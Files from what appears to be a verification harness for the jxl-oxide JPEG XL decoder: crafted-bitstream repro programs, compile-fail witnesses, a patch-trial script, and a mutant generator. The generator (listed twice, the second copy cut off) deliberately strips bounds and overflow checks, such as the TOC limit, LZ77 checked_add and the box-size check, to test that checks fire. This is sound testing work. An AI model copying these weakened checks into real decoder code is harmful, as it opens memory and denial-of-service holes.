            w.bool(true); // have_gamma
            w.write(24, g as u64);
            }
            w.write(2, 1); // rendering_intent = relative
        }
    }
    w.write(2, 0); // extensions
    w.bool(true); // default_m
    w.pad_to_byte();

    // FrameHeader
    w.bool(false); // all_default
    w.write(2, 0); // RegularFrame
    w.write(1, 1); // Modular
    w.write(2, 0); // flags = 0
    w.bool(false); // do_ycbcr
    w.write(2, 0); // upsampling = 1
    w.write(2, 1); // group_size_shift = 1 => group_dim = 256
    write_passes(&mut w, p);
    w.bool(false); // have_crop
    w.write(2, 0); // blend mode: replace
    w.bool(true); // is_last
    w.write(2, 0); // name length 0
    w.bool(false); // restoration_filter.all_default
    w.bool(false); // gab
    w.write(2, 0); // epf_iters = 0
    w.write(2, 0); // restoration filter extensions
    w.write(2, 0); // frame header extensions

    // Sections
    let num_groups = WIDTH.div_ceil(GROUP_DIM) * HEIGHT.div_ceil(GROUP_DIM);
    assert_eq!(num_groups, 2);

    let lf_global = {
        let mut s = BitWriter::new();
        s.bool(true); // LfChannelDequantization.all_default
        s.bool(true); // global MA tree present
        write_tree(&mut s, &demo_tree());
        // GlobalModular header; every channel is wider than group_dim, so no channel data here.
        s.bool(true); // use_global_tree
        s.bool(true); // default_wp
        s.write(2, 0); // nb_transforms = 0
        s.pad_to_byte();
        s.into_bytes()
    };
    let pass_group = {
        let mut s = BitWriter::new();
        // Local Modular header; residuals take zero bits.
        s.bool(true); // use_global_tree
        s.bool(true); // default_wp
        s.write(2, 0); // nb_transforms = 0
        s.pad_to_byte();
        s.into_bytes()
    };

    let mut sections: Vec<Vec<u8>> = Vec::new();
    sections.push(lf_global); // LfGlobal
    sections.push(Vec::new()); // LfGroup(0): nothing for Modular without shift >= 3 channels
    sections.push(Vec::new()); // HfGlobal: empty for Modular
    for pass in 0..p.num_passes {
        for _ in 0..num_groups {
            if pass == p.data_pass {
                sections.push(pass_group.clone());
            } else {
                sections.push(Vec::new());
            }
        }
    }
    assert_eq!(sections.len() as u32, 1 + 1 + 1 + p.num_passes * num_groups);

    // TOC
    w.bool(false); // not permuted
    w.pad_to_byte();
    for s in &sections {
        assert!(s.len() < 1024);
        w.write(2, 0);
        w.write(10, s.len() as u64);
    }
    w.pad_to_byte();
    for s in &sections {
        w.append_bytes(s);
    }

    w.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// Driver
// ---------------------------------------------------------------------------------------------

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

enum Outcome {
    Ok(String),
    Err(String),
    Panicked(String),
}

fn decode(bytes: &[u8]) -> Outcome {
    *LAST_PANIC.lock().unwrap() = None;
    let result = std::panic::catch_unwind(|| -> Result<String, String> {
        let image = jxl_oxide::JxlImage::builder()
            .read(bytes)
            .map_err(|e| format!("read: {e}"))?;
        let (w, h) = (image.width(), image.height());
        let render = image
            .render_frame(0)
            .map_err(|e| format!("render_frame: {e}"))?;
        let fb = render.image_all_channels();
        let buf = fb.buf();
        let ch = fb.channels();
        let px = |x: usize, y: usize| -> Vec<i32> {
            (0..ch)
                .map(|c| (buf[(y * fb.width() + x) * ch + c] * 255.0).round() as i32)
                .collect()
        };
        Ok(format!(
            "{w}x{h}, {ch} channels, px(0,0)={:?} px(100,3)={:?} px(299,7)={:?}",
            px(0, 0),
            px(100, 3),
            px(299, 7)
        ))
    });
    match result {
        Ok(Ok(s)) => Outcome::Ok(s),
        Ok(Err(e)) => Outcome::Err(e),
        Err(_) => Outcome::Panicked(
            LAST_PANIC
                .lock()
                .unwrap()
                .take()
                .unwrap_or_else(|| "<unknown>".into()),
        ),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn main() {
    let p = Passes { num_passes: 1, ds: vec![], data_pass: 0 };
    let mut failed = false;
    for (label, gamma) in [("gamma 0.4545455 (control)", Some(4545455u32)), ("tf = Unknown", Some(0xffffffu32)), ("colour_space = XYB (not xyb_encoded)", Some(0xfffffeu32)), ("colour_space = Unknown", Some(0xfffffdu32))] {
        let bytes = encode(&p, gamma);
        let r = std::panic::catch_unwind(|| {
            let image = jxl_oxide::JxlImage::builder().read(&bytes[..]).map_err(|e| e.to_string())?;
            let icc = image.rendered_icc();
            let n = icc.len();
            let r = image.render_frame(0).map_err(|e| e.to_string())?;
            let _ = r.image_all_channels();
            Ok::<_, String>(n)
        });
        match r {
            Ok(Ok(n)) => println!("{label}: opened, rendered_icc() returned {n} bytes"),
            Ok(Err(e)) => println!("{label}: rejected with an error: {e}"),
            Err(_) => { println!("{label}: PANICKED"); failed = true; }
        }
    }
    std::process::exit(if failed { 1 } else { 0 });
}

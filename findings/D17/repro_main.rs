//! D17: the ICC profile synthesised for a PQ or HLG encoding does not parse back to PQ / HLG.
use jxl_color::{
    ColorEncodingWithProfile, ColourEncoding, ColourSpace, EnumColourEncoding, Primaries,
    RenderingIntent, TransferFunction, WhitePoint, icc::colour_encoding_to_icc,
};

fn main() {
    let mut failed = 0;
    for tf in [
        TransferFunction::Srgb,
        TransferFunction::Linear,
        TransferFunction::Bt709,
        TransferFunction::Dci,
        TransferFunction::Gamma { g: 4545455, inverted: true },
        TransferFunction::Gamma { g: 22000000, inverted: false },
        TransferFunction::Pq,
        TransferFunction::Hlg,
    ] {
      for colour_space in [ColourSpace::Rgb, ColourSpace::Grey] {
        let enc = EnumColourEncoding {
            colour_space,
            white_point: WhitePoint::D65,
            primaries: Primaries::Bt2100,
            tf,
            rendering_intent: RenderingIntent::Relative,
        };
        let icc = colour_encoding_to_icc(&enc);
        let has_cicp = icc.windows(4).filter(|w| w[0] == b'c' && w[1] == b'i' && w[2] == b'c' && w[3] == b'p').count();
        match ColorEncodingWithProfile::with_icc(&icc) {
            Ok(p) => match p.encoding() {
                ColourEncoding::Enum(back) => {
                    let ok = back.tf == enc.tf || matches!((back.tf, enc.tf), (TransferFunction::Gamma{..}, TransferFunction::Gamma{..}) | (TransferFunction::Gamma{..}, TransferFunction::Dci));
                    println!("{} {:?}: parsed back tf = {:?} ('cicp' occurrences in profile: {})", if ok { "ok  " } else { "FAIL" }, tf, back.tf, has_cicp);
                    if !ok { failed += 1; }
                }
                other => { println!("FAIL {:?}: not recognised as an enum encoding: {:?}", tf, std::mem::discriminant(other)); failed += 1; }
            },
            Err(e) => { println!("FAIL {:?}: synthesised profile does not parse: {e}", tf); failed += 1; }
        }
      }
    }
    std::process::exit(if failed > 0 { 1 } else { 0 });
}

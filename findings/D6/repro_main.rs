use jxl_bitstream::{ContainerParser, ParseEvent};

fn run(file: &[u8], split: usize) -> Result<Vec<u8>, String> {
    let mut parser = ContainerParser::new();
    let mut cs = Vec::new();
    let mut pending: Vec<u8> = Vec::new();
    for chunk in [&file[..split], &file[split..]] {
        pending.extend_from_slice(chunk);
        let mut consumed_total = 0;
        {
            let buf = pending.clone();
            for ev in parser.feed_bytes(&buf) {
                match ev {
                    Ok(ParseEvent::Codestream(b)) => cs.extend_from_slice(b),
                    Ok(_) => {}
                    Err(e) => return Err(format!("{e}")),
                }
            }
            consumed_total += parser.previous_consumed_bytes();
        }
        pending.drain(..consumed_total);
    }
    Ok(cs)
}

fn main() {
    // signature box + ftyp + one jxlc box with a 64-bit (size==1) header and 5 payload bytes
    let mut file = vec![0, 0, 0, 0xc, b'J', b'X', b'L', b' ', 0xd, 0xa, 0x87, 0xa];
    file.extend_from_slice(&[0, 0, 0, 0x14, b'f', b't', b'y', b'p', b'j', b'x', b'l', b' ', 0, 0, 0, 0, b'j', b'x', b'l', b' ']);
    let hdr_at = file.len();
    file.extend_from_slice(&[0, 0, 0, 1, b'j', b'x', b'l', b'c']);
    file.extend_from_slice(&(16u64 + 5).to_be_bytes());
    file.extend_from_slice(&[0xff, 0x0a, 1, 2, 3]);
    let whole = run(&file, file.len()).expect("one-shot parse");
    let mut bad = 0;
    for split in 1..file.len() {
        match run(&file, split) {
            Ok(cs) if cs == whole => {}
            other => {
                bad += 1;
                println!("split at {split} (box header starts at {hdr_at}): {other:?}");
            }
        }
    }
    println!("whole: {whole:?}; bad splits: {bad}");
    std::process::exit(if bad > 0 { 1 } else { 0 });
}

//! Type-level witnesses: programs that must NOT compile against jxl-grid (each `compile_fail,E…` block), paired with a
//! compiling twin that differs only by the offending line (so a witness cannot pass because of an unrelated error).
//! Run with `cargo +nightly test --doc --offline` (the error code is only checked on nightly).

/// A mutable view cannot be duplicated: uniqueness is what makes `unsafe impl Send for MutableSubgrid` sound.
/// ```compile_fail,E0599
/// let mut buf = vec![0f32; 16];
/// let g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let _h = g.clone();
/// ```
/// twin:
/// ```no_run
/// let mut buf = vec![0f32; 16];
/// let g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let _h = g;
/// ```
pub struct MutableViewIsNotClone;

/// A mutable view is moved, not copied.
/// ```compile_fail,E0382
/// let mut buf = vec![0f32; 16];
/// let g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let a = g;
/// let b = g;
/// let _ = (a.width(), b.width());
/// ```
/// twin:
/// ```no_run
/// let mut buf = vec![0f32; 16];
/// let g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let a = g;
/// let _ = a.width();
/// ```
pub struct MutableViewIsNotCopy;

/// Raw construction of a view needs `unsafe`.
/// ```compile_fail,E0133
/// let mut buf = vec![0f32; 16];
/// let p = std::ptr::NonNull::new(buf.as_mut_ptr()).unwrap();
/// let _g = jxl_grid::MutableSubgrid::new(p, 4, 4, 4);
/// ```
/// twin:
/// ```no_run
/// let mut buf = vec![0f32; 16];
/// let p = std::ptr::NonNull::new(buf.as_mut_ptr()).unwrap();
/// let _g = unsafe { jxl_grid::MutableSubgrid::new(p, 4, 4, 4) };
/// ```
pub struct RawViewConstructionIsUnsafe;

/// The two halves of a split borrow the parent: the parent cannot be used while they are alive.
/// ```compile_fail,E0499
/// let mut buf = vec![0f32; 16];
/// let mut g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let (l, _r) = g.split_horizontal(2);
/// let again = g.split_horizontal(1);
/// let _ = (l.width(), again.0.width());
/// ```
/// twin:
/// ```no_run
/// let mut buf = vec![0f32; 16];
/// let mut g = jxl_grid::MutableSubgrid::from_buf(&mut buf, 4, 4, 4);
/// let (l, _r) = g.split_horizontal(2);
/// let _ = l.width();
/// let again = g.split_horizontal(1);
/// let _ = again.0.width();
/// ```
pub struct SplitHalvesBorrowParent;

/// An allocation handle cannot be duplicated (a copy would return its bytes twice).
/// ```compile_fail,E0599
/// let t = jxl_grid::AllocTracker::with_limit(1024);
/// let h = t.alloc::<u8>(16).unwrap();
/// let _h2 = h.clone();
/// ```
/// twin:
/// ```no_run
/// let t = jxl_grid::AllocTracker::with_limit(1024);
/// let h = t.alloc::<u8>(16).unwrap();
/// let _h2 = h;
/// ```
pub struct AllocHandleIsNotClone;

/// The fields of a handle are private: the recorded amount cannot be forged or edited from outside the crate.
/// ```compile_fail,E0616
/// let t = jxl_grid::AllocTracker::with_limit(1024);
/// let h = t.alloc::<u8>(16).unwrap();
/// let _n = h.bytes;
/// ```
/// twin:
/// ```no_run
/// let t = jxl_grid::AllocTracker::with_limit(1024);
/// let h = t.alloc::<u8>(16).unwrap();
/// let _t2 = h.tracker();
/// ```
pub struct AllocHandleFieldsArePrivate;

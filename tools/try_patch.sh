#!/bin/sh
# usage: tools/try_patch.sh <patch.diff> <Cxx> [Cyy ...]   apply to /repo, run the checks, always revert
P="$1"; shift
cd /repo || exit 2
git diff --quiet || { echo "/repo not clean"; exit 2; }
git apply "$P" || { echo "patch does not apply"; exit 2; }
cd /verif
rc=0
for c in "$@"; do ./check "$c" | cut -c1-500; done
git -C /repo checkout -- . 

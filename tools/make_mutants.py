#!/usr/bin/env python3
"""Generate /verif/mutants/*.patch from search/replace recipes applied to a scratch worktree of /repo HEAD.
Each mutant still compiles; index.json records the property whose check must fire and a substring of the expected key."""
import json, os, subprocess, sys

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
WT = "/tmp/jxlv-mutgen"

M = [
 # name, property, expected key substring, file, old, new
 ("c08_drop_done_render_on_incomplete", "C08", "exit-without-done_render", "crates/jxl-render/src/state.rs",
  "                    drop(self.done_render(render_result));\n                    return Err(Error::IncompleteFrame);",
  "                    drop(render_result);\n                    return Err(Error::IncompleteFrame);"),
 ("c20_drop_notify_all", "C20", "done_render-notify", "crates/jxl-render/src/state.rs",
  "        *guard = render;\n        self.condvar.notify_all();", "        *guard = render;"),
 ("c20_acquire_accepts_done", "C20", "wrapper-some-only-idle", "crates/jxl-render/src/state.rs",
  "            FrameRender::None | FrameRender::InProgress(_) => Some(render),", "            FrameRender::None | FrameRender::InProgress(_) | FrameRender::Done(_) => Some(render),"),
 ("c20_wait_without_restore", "C20", "wait-restores-Rendering", "crates/jxl-render/src/state.rs",
  "                    *render_ref = render;\n                    render_ref = self.condvar.wait(render_ref).unwrap();",
  "                    drop(render);\n                    render_ref = self.condvar.wait(render_ref).unwrap();"),
 ("c02_rct_detect_avx_not_avx2", "C02", "inverse_row_i16_x86_64_avx2", "crates/jxl-modular/src/transform/rct.rs",
  "        if is_x86_feature_detected!(\"avx2\") {", "        if is_x86_feature_detected!(\"avx\") {"),
 ("c02_grid_drop_width_assert", "C02", "unbounded-argument", "crates/jxl-grid/src/mutable_subgrid.rs",
  "        assert!(right <= self.width);\n", ""),
 ("c02_ans_mask", "C02", "mask-disagrees-with-table-size", "crates/jxl-coding/src/ans.rs",
  "        let idx = *state & 0xfff;", "        let idx = *state & 0x1fff;"),
 ("c02_transmute_bound", "C02", "transmute-guard", "crates/jxl-vardct/src/dct_select.rs", None, None),
 ("c13_discard_handle", "C13", "temp-dropped", "crates/jxl-grid/src/lib.rs", None, None),
 ("c01_toc_limit_removed", "C01", "entry_count > 65536", "crates/jxl-frame/src/data/toc.rs", None, None),
 ("c01_nb_transforms_limit", "C01", "header.nb_transforms > 512", "crates/jxl-modular/src/lib.rs", None, None),
 ("c01_lz77_checked_add", "C01", "R-RAWINT", "crates/jxl-coding/src/lib.rs",
  "                let Some(num_to_copy) = num_to_copy.checked_add(min_length) else {\n                    tracing::error!(num_to_copy, min_length, \"LZ77 num_to_copy overflow\");\n                    return Err(Error::InvalidLz77Symbol);\n                };",
  "                let num_to_copy = num_to_copy + min_length;"),
 ("c11_render_error_drops_modular_arm", "C11", "missing-route:Modular", "crates/jxl-render/src/error.rs",
  "            Error::Modular(e) => e.unexpected_eof(),\n", ""),
 ("c11_try_init_icc_arm", "C11", "eof-question-missing", "crates/jxl-oxide/src/lib.rs",
  "                Ok(x) => x,\n                Err(e) if e.unexpected_eof() => {\n                    return Ok(InitializeResult::NeedMoreData(self));\n                }\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            tracing::debug!(\"Image has an embedded ICC profile\");",
  "                Ok(x) => x,\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            tracing::debug!(\"Image has an embedded ICC profile\");"),
 ("c06_request_region_without_reset", "C06", "region-changed-without-reset", "crates/jxl-render/src/lib.rs",
  "        self.requested_image_region = image_region;\n        self.reset_cache();", "        self.requested_image_region = image_region;"),
 ("c05_snapshot_after_save", "C05", "read-after-own-save", "crates/jxl-render/src/lib.rs", None, None),
 ("c10_jxlc_after_jxlp_allowed", "C10", "table-mismatch", "crates/jxl-bitstream/src/container/parse.rs", None, None),
 ("c10_box_size_check_removed", "C10", "box_size < 4", "crates/jxl-bitstream/src/container/parse.rs",
  "                            if let Some(box_size) = header.box_size()\n                                && box_size < 4\n                            {\n                                return Err(Error::InvalidBox);\n                            }\n", ""),
 ("c15_swap_68_in_stream", "C15", "orientation-6", "crates/jxl-oxide/src/fb.rs",
  "            6 => (y, width - x - 1),\n            7 => (height - y - 1, width - x - 1),\n            8 => (height - y - 1, x),",
  "            6 => (height - y - 1, x),\n            7 => (height - y - 1, width - x - 1),\n            8 => (y, width - x - 1),"),
 ("c16_swap_dct4x8_sse41", "C16", "transform_x86_64_sse41|Dct4x8", "crates/jxl-render/src/vardct/x86_64/transform.rs", None, None),
 ("c14_frame_header_x0_dist", "C14", "read-x0", "crates/jxl-frame/src/header.rs", None, None),
 ("c07_hashmap_iteration", "C07", "hash-iteration", "crates/jxl-render/src/vardct/mod.rs", None, None),
 ("c07_pool_size_in_decoder", "C07", "banned-call", "crates/jxl-render/src/filter/gabor.rs", None, None),
 ("c13_forget_handle", "C13", "leak", "crates/jxl-frame/src/lib.rs", None, None),
]


def sh(*a, **k):
    return subprocess.run(a, check=True, text=True, capture_output=True, **k).stdout


def main():
    subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)
    sh("git", "-C", "/repo", "worktree", "add", "--detach", WT, "HEAD")
    idx = []
    try:
        for name, prop, key, path, old, new in M:
            if old is None:
                continue
            p = os.path.join(WT, path)
            s = open(p).read()
            if s.count(old) < 1:
                print("RECIPE DOES NOT MATCH:", name)
                continue
            s = s.replace(old, new, 1)
            open(p, "w").write(s)
            diff = sh("git", "-C", WT, "diff")
            open(os.path.join(V, "mutants", name + ".patch"), "w").write(diff)
            sh("git", "-C", WT, "checkout", "--", ".")
            idx.append({"name": name, "property": prop, "expect": key})
        json.dump(idx, open(os.path.join(V, "mutants", "index.json"), "w"), indent=1)
        print(len(idx), "mutants written")
    finally:
        subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", WT], capture_output=True)


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Generate /verif/mutants/*.patch from search/replace recipes applied to a scratch worktree of /repo HEAD.
Each mutant still compiles; index.json records the property whose check must fire and a substring of the expected key."""
import json, os, subprocess, sys

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
WT = "/tmp/jxlv-mutgen"

M = [
 # name, property, expected key substring, file, old, new
 ("c08_drop_done_render_on_incomplete", "C08", "exit-without-done_render", "crates/jxl-render/src/state.rs",
  "                    drop(self.done_render(render_result));\n                    return Err(Error::IncompleteFrame);",
  "                    drop(render_result);\n                    return Err(Error::IncompleteFrame);"),
 ("c20_drop_notify_all", "C20", "done_render-notify", "crates/jxl-render/src/state.rs",
  "        *guard = render;\n        self.condvar.notify_all();", "        *guard = render;"),
 ("c20_acquire_accepts_done", "C20", "wrapper-some-only-idle", "crates/jxl-render/src/state.rs",
  "            FrameRender::None | FrameRender::InProgress(_) => Some(render),", "            FrameRender::None | FrameRender::InProgress(_) | FrameRender::Done(_) => Some(render),"),
 ("c20_wait_without_restore", "C20", "wait-restores-Rendering", "crates/jxl-render/src/state.rs",
  "                    *render_ref = render;\n                    render_ref = self.condvar.wait(render_ref).unwrap();",
  "                    drop(render);\n                    render_ref = self.condvar.wait(render_ref).unwrap();"),
 ("c02_rct_detect_avx_not_avx2", "C02", "inverse_row_i16_x86_64_avx2", "crates/jxl-modular/src/transform/rct.rs",
  "        if is_x86_feature_detected!(\"avx2\") {", "        if is_x86_feature_detected!(\"avx\") {"),
 ("c02_grid_drop_width_assert", "C02", "unbounded-argument", "crates/jxl-grid/src/mutable_subgrid.rs",
  "        assert!(right <= self.width);\n", ""),
 ("c02_ans_mask", "C02", "mask-disagrees-with-table-size", "crates/jxl-coding/src/ans.rs",
  "        let idx = *state & 0xfff;", "        let idx = *state & 0x1fff;"),
 ("c02_transmute_bound", "C02", "transmute-guard", "crates/jxl-vardct/src/dct_select.rs",
  "        if value <= TransformType::Dct128x256 as u8 {", "        if value <= 27 {"),
 ("c13_discard_handle", "C13", "temp-dropped", "crates/jxl-frame/src/lib.rs",
  "            let handle = tracker.alloc::<u8>(size)?;\n            self.bytes.try_reserve(size)?;\n            self.handle = Some(handle);",
  "            let _ = tracker.alloc::<u8>(size)?;\n            self.bytes.try_reserve(size)?;"),
 ("c01_toc_limit_removed", "C01", "entry_count > 65536", "crates/jxl-frame/src/data/toc.rs",
  "        if entry_count > 65536 {\n            return Err(jxl_bitstream::Error::ValidationFailed(\"Too many TOC entries\").into());\n        }\n", ""),
 ("c01_nb_transforms_limit", "C01", "header.nb_transforms > 512", "crates/jxl-modular/src/lib.rs",
  "    if header.nb_transforms > 512 {", "    if header.nb_transforms > 5120 {"),
 ("c01_lz77_checked_add", "C01", "R-RAWINT", "crates/jxl-coding/src/lib.rs",
  "                let Some(num_to_copy) = num_to_copy.checked_add(min_length) else {\n                    tracing::error!(num_to_copy, min_length, \"LZ77 num_to_copy overflow\");\n                    return Err(Error::InvalidLz77Symbol);\n                };",
  "                let num_to_copy = num_to_copy + min_length;"),
 ("c11_render_error_drops_modular_arm", "C11", "missing-route:Modular", "crates/jxl-render/src/error.rs",
  "            Error::Modular(e) => e.unexpected_eof(),\n", ""),
 ("c11_try_init_icc_arm", "C11", "eof-question-missing", "crates/jxl-oxide/src/lib.rs",
  "                Ok(x) => x,\n                Err(e) if e.unexpected_eof() => {\n                    return Ok(InitializeResult::NeedMoreData(self));\n                }\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            tracing::debug!(\"Image has an embedded ICC profile\");",
  "                Ok(x) => x,\n                Err(e) => {\n                    return Err(e.into());\n                }\n            };\n            tracing::debug!(\"Image has an embedded ICC profile\");"),
 ("c06_request_region_without_reset", "C06", "region-changed-without-reset", "crates/jxl-render/src/lib.rs",
  "        self.requested_image_region = image_region;\n        self.reset_cache();", "        self.requested_image_region = image_region;"),
 ("c05_snapshot_after_save", "C05", "read-after-own-save", "crates/jxl-render/src/lib.rs",
  "        let deps = FrameDependence {\n            lf,\n            ref_slots: self.reference,\n        };\n\n        if header.can_reference() {\n            let ref_idx = header.save_as_reference as usize;\n            self.reference[ref_idx] = idx;\n        }",
  "        if header.can_reference() {\n            let ref_idx = header.save_as_reference as usize;\n            self.reference[ref_idx] = idx;\n        }\n\n        let deps = FrameDependence {\n            lf,\n            ref_slots: self.reference,\n        };"),
 ("c10_jxlc_after_jxlp_allowed", "C10", "table-mismatch", "crates/jxl-bitstream/src/container/parse.rs",
  "                                JxlpIndexState::Jxlp(_) | JxlpIndexState::JxlpFinished => {\n                                    tracing::debug!(\"Found jxlc box instead of jxlp box\");\n                                    return Err(Error::InvalidBox);\n                                }",
  "                                JxlpIndexState::Jxlp(_) => {\n                                    tracing::debug!(\"Found jxlc box instead of jxlp box\");\n                                    return Err(Error::InvalidBox);\n                                }\n                                JxlpIndexState::JxlpFinished => {}"),
 ("c10_box_size_check_removed", "C10", "box_size < 4", "crates/jxl-bitstream/src/container/parse.rs",
  "                            if let Some(box_size) = header.box_size()\n                                && box_size < 4\n                            {\n                                return Err(Error::InvalidBox);\n                            }\n", ""),
 ("c15_swap_68_in_stream", "C15", "orientation-6", "crates/jxl-oxide/src/fb.rs",
  "            6 => (y, width - x - 1),\n            7 => (height - y - 1, width - x - 1),\n            8 => (height - y - 1, x),",
  "            6 => (height - y - 1, x),\n            7 => (height - y - 1, width - x - 1),\n            8 => (y, width - x - 1),"),
 ("c16_swap_dct4x8_sse41", "C16", "transform_x86_64_sse41|Dct4x8", "crates/jxl-render/src/vardct/x86_64/transform.rs",
  "        Dct2 => transform_dct2_x86_64_sse41(coeff),\n        Dct4 => transform_dct4_x86_64_sse2(coeff),\n        Hornuss => generic::transform_hornuss(coeff),\n        Dct4x8 => transform_dct4x8_x86_64_sse2::<false>(coeff),\n        Dct8x4 => transform_dct4x8_x86_64_sse2::<true>(coeff),",
  "        Dct2 => transform_dct2_x86_64_sse41(coeff),\n        Dct4 => transform_dct4_x86_64_sse2(coeff),\n        Hornuss => generic::transform_hornuss(coeff),\n        Dct4x8 => transform_dct4x8_x86_64_sse2::<true>(coeff),\n        Dct8x4 => transform_dct4x8_x86_64_sse2::<false>(coeff),"),
 ("c14_frame_header_x0_dist", "C14", "read-x0", "crates/jxl-frame/src/header.rs",
  "        pub x0:\n            ty(U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30)); UnpackSigned)",
  "        pub x0:\n            ty(U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(28)); UnpackSigned)"),
 ("c07_hashmap_iteration", "C07", "hash-iteration", "crates/jxl-render/src/vardct/mod.rs",
  "    let lf_groups = &mut cache.lf_groups;\n", "    let lf_groups = &mut cache.lf_groups;\n    let _first_group = lf_groups.keys().next().copied();\n", ),
 ("c07_pool_size_in_decoder", "C07", "banned-call", "crates/jxl-render/src/filter/gabor.rs",
  "    let width = input.width();\n    let height = input.height();\n    let output_buf = output.buf_mut();",
  "    let width = input.width();\n    let height = input.height();\n    let _single = !pool.is_multithreaded();\n    let output_buf = output.buf_mut();"),
 ("c01_spline_points_unbounded", "C01", "R-LIMIT-TAINT", "crates/jxl-frame/src/data/spline.rs",
  "        if acc_num_points > max_num_points {\n            tracing::error!(num_points, max_num_points, \"Too many spline points\");\n            return Err(jxl_bitstream::Error::ProfileConformance(\"too many spline points\").into());\n        }\n",
  "        let _ = (acc_num_points, max_num_points);\n"),
 ("c13_alloc_amount_drops_size", "C13", "amount-is-count-times-size", "crates/jxl-grid/src/alloc_tracker.rs",
  "        let bytes = count * std::mem::size_of::<T>();", "        let bytes = count;"),
 ("c14_skip_bits_keeps_buf", "C14", "buf-not-cleared-before-skip", "crates/jxl-bitstream/src/bitstream.rs",
  "        self.num_read_bits += self.remaining_buf_bits;\n        self.buf = 0;\n        self.remaining_buf_bits = 0;",
  "        self.num_read_bits += self.remaining_buf_bits;\n        self.buf >>= self.remaining_buf_bits;\n        self.remaining_buf_bits = 0;"),
 ("c17_status_skips_xmp_decoding_probe", "C17", "probe:xmp:is_decoding", "crates/jxl-oxide/src/lib.rs",
  "                    if xml.is_decoding() {\n                        return JpegReconstructionStatus::NeedMoreData;\n                    } else if xml.is_not_found() {",
  "                    if xml.is_not_found() {"),
 ("c17_app_marker_length_unvalidated", "C17", "R-FIELDRANGE", "crates/jxl-jbr/src/lib.rs",
  "        if (length as usize) < min_length {\n            tracing::error!(ty, length, min_length, \"APP marker is too short\");\n            return Err(jxl_bitstream::Error::ValidationFailed(\n                \"APP marker is too short for its type\",\n            ));\n        }\n",
  "        let _ = min_length;\n"),
 ("c17_reconstruct_without_frame_check", "C17", "reconstruct-needs-frame", "crates/jxl-oxide/src/lib.rs",
  "        if self.num_loaded_frames() == 0 {\n            return Err(jxl_jbr::Error::FrameDataIncomplete.into());\n        }\n", ""),
 ("c17_scan_component_index_unchecked", "C17", "comp_idx", "crates/jxl-jbr/src/reconstruct.rs",
  "                    if c.comp_idx as usize >= num_components {", "                    if c.comp_idx as usize > num_components {"),
 ("c01_spectral_selection_unchecked", "C01", "R-FIELDRANGE", "crates/jxl-jbr/src/reconstruct.rs",
  "                if si.ss > si.se {\n", "                if si.ss > 63 {\n"),
 ("c01_consume_bits_wraps", "C01", "eof-is-error:consume_bits", "crates/jxl-bitstream/src/bitstream.rs",
  "        self.remaining_buf_bits = self\n            .remaining_buf_bits\n            .checked_sub(n)\n            .ok_or(Error::Io(std::io::ErrorKind::UnexpectedEof.into()))?;\n        self.num_read_bits += n;",
  "        self.remaining_buf_bits = self.remaining_buf_bits.wrapping_sub(n);\n        self.num_read_bits += n;"),
 ("c04_special_distance_typo", "C04", "lz77-special-distances", "crates/jxl-coding/src/lib.rs",
  "            [8, 4], [6, 7], [-6, 7], [7, 6], [-7, 6], [8, 5], [7, 7], [-7, 7], [8, 6], [8, 7],",
  "            [8, 4], [6, 7], [-6, 7], [7, 6], [-7, 6], [8, 5], [7, 7], [-7, 7], [8, 7], [8, 6],"),
 ("c04_final_state_constant", "C04", "state != 1245184", "crates/jxl-coding/src/lib.rs",
  "                if state == 0x130000 {", "                if state == 0x13000 {"),
 ("c04_lz77_write_mask", "C04", "window-masks", "crates/jxl-coding/src/lib.rs",
  "        let offset = (state.num_decoded & 0xfffff) as usize;", "        let offset = (state.num_decoded & 0x7ffff) as usize;"),
 ("c19_bt2100_green_typo", "C19", "primaries-bt2100", "crates/jxl-color/src/consts.rs",
  "[[0.708, 0.292], [0.170, 0.797], [0.131, 0.046]]", "[[0.708, 0.292], [0.170, 0.787], [0.131, 0.046]]"),
 ("c19_parse_whitepoint_rows_crossed", "C19", "icc-parse-whitepoint-table", "crates/jxl-color/src/icc/parse.rs",
  "            (crate::consts::ILLUMINANT_DCI, WhitePoint::Dci),\n            (crate::consts::ILLUMINANT_E, WhitePoint::E),",
  "            (crate::consts::ILLUMINANT_DCI, WhitePoint::E),\n            (crate::consts::ILLUMINANT_E, WhitePoint::Dci),"),
 ("c16_scale_f_typo", "C16", "lf-scale-f", "crates/jxl-render/src/vardct/dct_common.rs",
  "        0.9133480844001980,", "        0.9133840844001980,"),
 ("c18_common_tags_order", "C18", "icc-common-tags", "crates/jxl-color/src/icc/decode.rs",
  "b\"gTRC\", b\"bTRC\", b\"kTRC\", b\"chad\"", "b\"bTRC\", b\"gTRC\", b\"kTRC\", b\"chad\""),
 ("c18_lumi_not_fixed_size", "C18", "implicit-size-by-name", "crates/jxl-color/src/icc/decode.rs",
  "b\"rXYZ\" | b\"gXYZ\" | b\"bXYZ\" | b\"kXYZ\" | b\"wtpt\" | b\"bkpt\" | b\"lumi\" => 20,", "b\"rXYZ\" | b\"gXYZ\" | b\"bXYZ\" | b\"kXYZ\" | b\"wtpt\" | b\"bkpt\" => 20,"),
 ("c07_epf_sigma_conditional_store", "C07", "stale-scratch", "crates/jxl-render/src/filter/epf.rs",
  "                *sigma = if let Some(grid) = sigma_grid_map[sigma_grid_idx] {\n                    let width = grid.width();\n                    grid.buf()[sigma_inner_y * width + sigma_inner_x]\n                } else {\n                    epf_params.sigma_for_modular\n                };",
